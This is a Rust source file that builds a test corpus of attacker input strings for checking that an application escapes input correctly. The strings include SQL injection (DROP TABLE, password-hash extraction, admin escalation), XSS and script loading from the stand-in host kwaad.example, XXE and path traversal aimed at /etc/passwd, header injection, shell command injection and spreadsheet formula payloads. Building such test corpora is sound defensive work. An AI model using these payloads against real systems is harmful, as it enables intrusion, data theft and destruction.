//! What attackers type: the classic texts for each place where a text may become code.

/// Two hundred texts and more, each of one line or with line ends where those are the attack.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> =
        [SQL, HTML, TEMPLATE, HEADER, PATH, FORMULA, DIRECTION, SHELL, NUMBER]
            .concat()
            .into_iter()
            .map(str::to_owned)
            .collect();
    all.extend(breaking_out());
    all.push("a".repeat(20_000));
    all.push("<b>".repeat(2_000));
    all.push("é".repeat(5_000));
    all
}

/// Each way to leave the place where a value stands, before each thing to do outside it.
fn breaking_out() -> Vec<String> {
    let ways = ["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\\">"];
    let acts = [
        "<script>alert(7)</script>",
        "<svg onload=alert(7)>",
        "<img src=x onerror=alert(7)>",
        "<form action=//kwaad.example>",
    ];
    let both = |way: &&str| acts.map(|act| format!("{way}{act}"));
    ways.iter().flat_map(both).collect()
}

const SQL: &[&str] = &[
    "'",
    "''",
    "\"",
    "`",
    ";",
    "--",
    "#",
    "/*",
    "*/",
    "\\",
    "\\'",
    "%",
    "_",
    "%%",
    "%_%",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "') OR ('1'='1",
    "1 OR 1=1",
    "1' ORDER BY 99 --",
    "' UNION SELECT NULL --",
    "' UNION SELECT password_hash FROM users --",
    "1; DROP TABLE users",
    "'; DROP TABLE organisations; --",
    "'; UPDATE users SET role='admin'; --",
    "' AND 1=0 --",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "'||(SELECT pg_sleep(9))||'",
    "1; SELECT pg_sleep(9)",
    "' AND 1=CAST((SELECT version()) AS INT) --",
    "x' AND randomblob(1000000000) --",
    "admin'--",
    "$$;SELECT 1;$$",
    "E'\\x27'",
    "' ESCAPE '\\",
    "\\%",
    "$1",
    "?1",
    ":name",
    "@@version",
];

const HTML: &[&str] = &[
    "<",
    ">",
    "&",
    "&amp;",
    "&lt;script&gt;",
    "<script>alert(7)</script>",
    "<ScRiPt>alert(7)</sCrIpT>",
    "<script src=//kwaad.example/x.js></script>",
    "<img src=x onerror=alert(7)>",
    "<svg/onload=alert(7)>",
    "<iframe src=javascript:alert(7)>",
    "<a href=\"javascript:alert(7)\">x</a>",
    "<body onload=alert(7)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//kwaad.example>",
    "<base href=//kwaad.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//kwaad.example><input name=csrf>",
    "<input autofocus onfocus=alert(7)>",
    "<details open ontoggle=alert(7)>",
    "<object data=//kwaad.example>",
    "<math><mtext></math><script>alert(7)</script>",
    "\" onmouseover=\"alert(7)",
    "' onmouseover='alert(7)",
    "\" autofocus onfocus=alert(7) x=\"",
    "javascript:alert(7)",
    "data:text/html,<script>alert(7)</script>",
    "vbscript:msgbox(7)",
    "<!-- x",
    "<![CDATA[<script>alert(7)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "</select><script>alert(7)</script>",
    "</option><script>alert(7)</script>",
    "\u{ff1c}script\u{ff1e}alert(7)",
    "<scr\0ipt>alert(7)</script>",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e",
];

const TEMPLATE: &[&str] = &[
    "{{ 1234 * 4321 }}",
    "{{1234*4321}}",
    "{% raw %}",
    "{% if true %}",
    "{% include \"base.html\" %}",
    "{% for x in y %}{{ x }}{% endfor %}",
    "{{ __tera_context }}",
    "{{ get_env(name=\"HOME\") }}",
    "{# x #}",
    "${1234*4321}",
    "#{1234*4321}",
    "<%= 1234*4321 %>",
    "@(1234*4321)",
    "{{ self }}",
    "{{ \"x\" | safe }}",
    "}}",
    "{{",
    "%}",
    "%s%s%s%n",
    "{0}",
    "{aanhef}",
    "[[ aanhef ]]",
];

const HEADER: &[&str] = &[
    "\r\nX-Kwaad: ja",
    "\nX-Kwaad: ja",
    "\rX-Kwaad: ja",
    "x\r\nSet-Cookie: a=b",
    "x\r\nBcc: ander@kwaad.example",
    "x\nBcc: ander@kwaad.example",
    "a@kwaad.example\r\nSubject: x",
    "\r\n\r\n<script>alert(7)</script>",
    "%0d%0aX-Kwaad:%20ja",
    "\u{2028}X-Kwaad: ja",
    "\u{85}X-Kwaad: ja",
    "a@b.example,c@kwaad.example",
    "\"a b\"@kwaad.example",
    "<a@kwaad.example>",
    "=?utf-8?q?x?=",
    "a@[127.0.0.1]",
];

const PATH: &[&str] = &[
    "..",
    "../",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f",
    "x.csv/../../y",
    "\0",
    "x\0.csv",
    "//kwaad.example",
    "///kwaad.example",
    "/\\kwaad.example",
    "https://kwaad.example",
    "\\\\kwaad.example\\x",
    ".env",
    "~root",
    "CON",
];

const FORMULA: &[&str] = &[
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"//kwaad.example\")",
    "=IMPORTXML(\"//kwaad.example\")",
    ";=1+1",
    ",=1+1",
    "\"=1+1",
    "'=1+1",
    "\u{ff1d}1+1",
    "\n=1+1",
];

const DIRECTION: &[&str] = &[
    "\u{202e}gpj.exe",
    "\u{202d}x\u{202c}",
    "\u{2066}x\u{2069}",
    "\u{200f}x",
    "\u{200b}",
    "\u{feff}x",
    "a\u{301}\u{301}\u{301}",
    "\u{1f600}",
    "\u{10ffff}",
    "\u{fffd}",
    "\u{e000}",
    "ﷺ",
    "İ",
    "ß",
    "ﬀ",
    "\u{7f}",
    "\u{1b}[31m",
    "\u{8}x",
    "Ⅷ",
    "𝟏",
];

const SHELL: &[&str] = &[
    "; id",
    "| id",
    "& id",
    "&& id",
    "`id`",
    "$(id)",
    "%COMSPEC%",
    "$HOME",
    "*",
    "?",
    "!",
    "\n id",
    "() { :; }; id",
    "*)(uid=*",
    "{\"$gt\":\"\"}",
    "[object Object]",
    "null",
    "undefined",
    "true",
    "NaN",
];

const NUMBER: &[&str] = &[
    "0",
    "-0",
    "-1",
    "1e999",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "2147483648",
    "1.5",
    "0x10",
    "٣",
    "00000000000000000001",
    "1_000",
    "2023-02-30",
    "0000-01-01",
    "9999-12-31",
    "31-02-2023",
    "24:61",
    "-262144-01-01",
    "2023-10-29T02:30",
    "GM9999999999",
    "PV",
    "GM0355'",
    "  ",
];

#[test]
fn there_are_two_hundred_of_them_and_more() {
    let mut all = all();
    all.sort();
    all.dedup();
    assert!(all.len() >= 200, "{}", all.len());
}
